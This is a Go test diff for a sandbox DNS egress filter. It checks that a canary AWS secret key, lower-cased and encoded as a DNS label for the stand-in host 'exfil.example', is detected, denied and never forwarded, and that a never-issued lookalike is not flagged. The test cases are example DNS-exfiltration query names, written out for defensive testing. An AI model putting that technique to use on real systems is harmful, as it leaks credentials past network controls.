@@ -3,6 +3,7 @@ package dnsfilter
 import (
 	"bytes"
 	"encoding/hex"
+	"fmt"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -140,5 +141,77 @@ func TestScanNameCorpus(t *testing.T) {
 	t.Logf("DNS corpus through the filter: blocked %d/%d, detected %d/%d, false positives %d/%d", blocked, blocks, detected, detects, fps, benign)
 	if blocked != blocks || fps != 0 {
 		t.Errorf("want every block case blocked and no false positive")
+	}
+}
+
+// TestScanNameFoldedCanary: a mixed-case canary the sandbox was given (the
+// AWS secret key, 40 base64 characters), sent as a DNS label (which folds
+// it to lower case), is recognized by the real scanner as a canary, refused
+// under a policy allowing every name and never forwarded; the same shape
+// never issued is not a canary. Before the issued set, the keyed mark did
+// not survive the folding and the name went upstream. (A GitHub or OpenAI
+// canary cannot be a label: the filter refuses an underscore, and the
+// OpenAI key is longer than a label.)
+func TestScanNameFoldedCanary(t *testing.T) {
+	key := bytes.Repeat([]byte("airlock-dns-key!"), 2)
+	canaries := inspect.NewCanaries(key)
+	sc, err := inspect.New(inspect.Config{Key: key, Canaries: canaries})
+	if err != nil {
+		t.Fatal(err)
+	}
+	scan := func(_ policy.Sandbox, name string) []policy.Finding {
+		var out []policy.Finding
+		for _, f := range sc.Scan("dns.qname", []byte(name)) {
+			out = append(out, policy.Finding(f))
+		}
+		return out
+	}
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "team.rego"), []byte("package airlock.egress\n\nallow := true\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	eng, err := policy.New(policy.Config{Dir: dir, Presets: []string{policy.PresetNone}, EvalTimeout: 10 * time.Second}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { eng.Close() })
+	up := startUpstream(t, records(nil))
+	e := newEnv(t, Config{ScanName: scan}, up, eng)
+	// The first sandbox whose secret is letters and digits only (a label
+	// holds no '+' or '/').
+	var secret string
+	for i := 0; secret == ""; i++ {
+		v := canaries.For(fmt.Sprintf("sb-%d", i)).Env["AWS_SECRET_ACCESS_KEY"]
+		if !strings.ContainsAny(v, "+/") {
+			secret = v
+		}
+	}
+	for _, tc := range []struct {
+		name   string
+		canary bool
+	}{
+		{strings.ToLower(secret) + ".exfil.example.", true},
+		{strings.ToLower(secret[:len(secret)-4]) + "zzzz.exfil.example.", false},
+	} {
+		before := len(e.aud.Records())
+		r := e.ask(t, "udp", tc.name, dns.TypeA)
+		var rec audit.Record
+		for _, x := range e.aud.Records()[before:] {
+			if x.Kind == audit.KindDNS {
+				rec = x
+			}
+		}
+		canary := false
+		for _, f := range rec.Findings {
+			canary = canary || f.Class == inspect.ClassCanary
+		}
+		forwarded := up.count(strings.TrimSuffix(tc.name, "."))
+		t.Logf("%.16s...: rcode %s, forwarded %d, decision %s, canary finding %v", tc.name, dns.RcodeToString[r.Rcode], forwarded, rec.Decision, canary)
+		if tc.canary && (r.Rcode != dns.RcodeNameError || forwarded != 0 || rec.Decision != audit.DecisionDeny || !canary) {
+			t.Errorf("folded canary %.16s...: want refused, never forwarded, with a canary finding", tc.name)
+		}
+		if !tc.canary && canary {
+			t.Errorf("a never-issued lookalike %.16s... reported as a canary", tc.name)
+		}
 	}
 }
